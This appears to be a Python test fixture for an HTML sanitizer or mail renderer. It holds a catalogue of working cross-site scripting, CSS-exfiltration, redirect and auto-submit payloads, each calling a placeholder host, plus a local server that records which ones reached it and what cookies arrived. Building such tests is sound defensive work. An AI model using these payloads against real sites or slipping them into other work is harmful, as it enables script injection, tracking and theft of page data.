"""What hostile posts and mails hold, by what each of them tries; and a server that notices.

Every attempt calls `elsewhere`, which is a format string's field: the address of a server
that must not be asked, under the attempt's name.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

__all__ = ["ALONE", "CLICKED", "TOGETHER", "Elsewhere", "document", "elsewhere"]

_CALL = "new Image().src='{elsewhere}/%s';parent.document.title='owned';void 0"

# These work beside each other, without anybody's doing.
TOGETHER = {
    "script": f"<script>{_CALL % 'script'}</script>",
    "module": f"<script type=module>{_CALL % 'module'}</script>",
    "script-src": '<script src="{elsewhere}/script-src"></script>',
    "onerror": f'<img src="data:," onerror="{_CALL % "onerror"}">',
    "ontoggle": f'<details open ontoggle="{_CALL % "ontoggle"}">x</details>',
    "onfocus": f'<input autofocus onfocus="{_CALL % "onfocus"}">',
    "svg-onload": f'<svg onload="{_CALL % "svg-onload"}"></svg>',
    "svg-script": f"<svg><script>{_CALL % 'svg-script'}</script></svg>",
    "svg-begin": f'<svg><animate attributeName=x dur=1s onbegin="{_CALL % "svg-begin"}"/></svg>',
    "svg-image": '<svg><image href="{elsewhere}/svg-image" width=9 height=9 /></svg>',
    "svg-use": "<svg width=9 height=9><rect width=9 height=9 "
    'style="fill:url({elsewhere}/svg-use#a)"/></svg>',
    "image": '<img src="{elsewhere}/image">',
    "srcset": '<img srcset="{elsewhere}/srcset 1x">',
    "picture": '<picture><source srcset="{elsewhere}/picture"><img src="data:,"></picture>',
    "background": '<table background="{elsewhere}/background"><tr><td>x</table>',
    "poster": '<video poster="{elsewhere}/poster"></video>',
    "video": '<video src="{elsewhere}/video" preload=auto></video>',
    "audio": '<audio src="{elsewhere}/audio" preload=auto></audio>',
    "input": '<input type=image src="{elsewhere}/input">',
    "object": '<object data="{elsewhere}/object"></object>',
    "embed": '<embed src="{elsewhere}/embed">',
    "iframe": '<iframe src="{elsewhere}/iframe"></iframe>',
    "srcdoc": f'<iframe srcdoc="<script>{_CALL % "srcdoc"}</script>"></iframe>'.replace(
        "'", "&quot;"
    ),
    "css-import": "<style>@import url({elsewhere}/css-import);</style>",
    "css-url": "<style>body {{ background: url({elsewhere}/css-url) }}</style>",
    "css-font": "<style>@font-face {{ font-family: f; src: url({elsewhere}/css-font) }} "
    "p {{ font-family: f }}</style><p>x</p>",
    "css-attribute": "<style>input[value^=s] {{ background: url({elsewhere}/css-attribute) }}"
    "</style><input value=secret>",
    "css-inline": '<p style="background-image: url({elsewhere}/css-inline)">x</p>',
    "css-list": "<ul style=\"list-style-image: image-set('{elsewhere}/css-list' 1x)\"><li>x</ul>",
    "css-content": "<style>b::after {{ content: url({elsewhere}/css-content) }}</style><b>x</b>",
    "stylesheet": '<link rel=stylesheet href="{elsewhere}/stylesheet">',
    "preload": '<link rel=preload as=image href="{elsewhere}/preload">',
    "prefetch": '<link rel=prefetch href="{elsewhere}/prefetch">',
    "modulepreload": '<link rel=modulepreload href="{elsewhere}/modulepreload">',
    "speculation": '<script type=speculationrules>{{"prefetch":[{{"source":"list",'
    '"urls":["{elsewhere}/speculation"]}}]}}</script>',
}

# These lead away, or stand at the head of a document.
ALONE = {
    "refresh": '<meta http-equiv=refresh content="0; url={elsewhere}/refresh">',
    "base": '<base href="{elsewhere}/base/"><img src="relative.png">',
    "iframe-js": "<iframe src=\"javascript:parent.location='{elsewhere}/iframe-js'\"></iframe>",
    "bust": "<script>top.location='{elsewhere}/bust'</script>",
    "bust-svg": "<svg onload=\"top.location='{elsewhere}/bust-svg'\"></svg>",
    "submit": '<form action="{elsewhere}/submit" method=post target=_top><input name=a value=b>'
    "</form><script>document.forms[0].submit()</script>",
    "click": '<a href="{elsewhere}/click" target=_top>x</a>'
    "<script>document.links[0].click()</script>",
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">'
    '<img src="{elsewhere}/policy">',
}

# These wait for a click on `#it`.
CLICKED = {
    "javascript": f'<a id=it href="javascript:{_CALL % "javascript"}">it</a>',
    "onclick": f'<p id=it onclick="{_CALL % "onclick"}">it</p>',
    "form": '<form action="{elsewhere}/form" method=post><button id=it>it</button></form>',
    "form-top": '<form action="{elsewhere}/form-top" target=_top><button id=it>it</button></form>',
    "form-blank": '<form action="{elsewhere}/form-blank" target=_blank><button id=it>it</button>'
    "</form>",
    "formaction": '<form><button id=it formaction="{elsewhere}/formaction">it</button></form>',
    "form-js": f'<form action="javascript:{_CALL % "form-js"}"><button id=it>it</button></form>',
    "svg-link": '<svg width=99 height=30><a href="{elsewhere}/svg-link" target=_top>'
    "<text id=it y=20>it</text></a></svg>",
    "svg-js": f'<svg width=99 height=30><a href="javascript:{_CALL % "svg-js"}">'
    "<text id=it y=20>it</text></a></svg>",
    "ping": '<a id=it href="#x" ping="{elsewhere}/ping">it</a>',
}


class Elsewhere:
    """A server on another port of this machine: what it was asked, and what it answers with.

    `pages` are HTML documents by path; the rest is empty. `cookies` are those it was sent.
    """

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.pages: dict[str, str] = {}
        self.asked: list[str] = []
        self.cookies: set[str] = set()

    def names(self) -> set[str]:
        """The attempts that reached it."""
        return {path.split("/")[1] for path in self.asked} - {"favicon.ico"}

    def forget(self) -> None:
        """Begins anew."""
        self.asked.clear()
        self.pages.clear()
        self.cookies.clear()


def document(body: str, other: Elsewhere) -> str:
    """A document whose attempts call that server."""
    return "<!doctype html><body>" + body.format(elsewhere=other.url)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """Runs that server."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            body = noticed.pages.get(path)
            if body is None:
                noticed.asked.append(path)
            noticed.cookies.add(self.headers.get("Cookie", ""))
            data = (body or "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_POST = do_HEAD = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    class Server(ThreadingHTTPServer):
        daemon_threads = True

        def handle_error(self, *_: object) -> None:
            """A browser that leaves a page breaks its connections off."""

    with Server(("127.0.0.1", 0), Handler) as server:
        noticed = Elsewhere(server.server_port)
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield noticed
        server.shutdown()
        thread.join()
